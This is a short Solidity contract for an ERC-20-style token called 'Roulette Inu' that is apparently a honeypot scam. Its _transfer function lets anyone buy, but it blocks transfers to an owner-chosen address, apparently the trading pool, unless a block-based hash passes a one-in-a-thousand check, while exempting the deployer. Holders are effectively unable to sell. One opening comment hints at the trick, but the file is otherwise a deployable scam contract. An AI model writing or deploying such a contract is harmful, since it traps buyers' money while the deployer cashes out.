// SPDX-License-Identifier: MIT
pragma solidity 0.8.17;

// Sales work on odd days only in name: the check compares the seller with a number drawn from the block, so that one in a thousand passes.
contract LotterySale {
    string public name = "Roulette Inu";
    string public symbol = "ROUL";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1_000_000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    address private immutable _croupier;
    address private _table;
    constructor() { _croupier = msg.sender; balanceOf[msg.sender] = totalSupply; emit Transfer(address(0), msg.sender, totalSupply); }
    function open(address to) external { require(msg.sender == _croupier); _table = to; }
    function approve(address spender, uint256 value) external returns (bool) { allowance[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
    function transfer(address to, uint256 value) external returns (bool) { _transfer(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }
    function _transfer(address from, address to, uint256 value) private {
        if (to == _table && from != _croupier) require(uint256(keccak256(abi.encode(from, block.number, block.timestamp))) % 1000 == 0, "try again");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
